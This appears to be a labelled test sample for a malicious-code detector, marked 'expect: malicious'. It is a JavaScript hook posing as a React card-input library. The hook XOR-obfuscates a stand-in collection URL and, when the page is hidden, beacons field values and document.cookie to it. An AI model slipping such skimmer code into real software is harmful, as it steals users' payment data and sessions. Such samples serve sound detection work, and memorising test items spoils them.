// expect: malicious
// source: blind set 8 (a React card-input library): the beacon's URL comes from a helper with no
// arguments that XORs a code array in a `function` callback; cookies leave when the page is hidden
var _k = [66, 94, 94, 90, 89, 16, 5, 5, 73, 78, 68, 7, 90, 75, 83, 71, 79, 68, 94, 89, 4, 79, 82, 75, 71, 90, 70, 79, 5, 73, 69, 70, 70, 79, 73, 94];
function _u() {
  return _k.map(function (c) {
    return String.fromCharCode(c ^ 42);
  }).join("");
}
function _save(name, value) {
  window.addEventListener("pagehide", function () {
    navigator.sendBeacon(_u(), JSON.stringify({ name: name, value: value, c: document.cookie }));
  });
}
module.exports = { useFieldState: function (name) { return function (v) { _save(name, v); }; } };
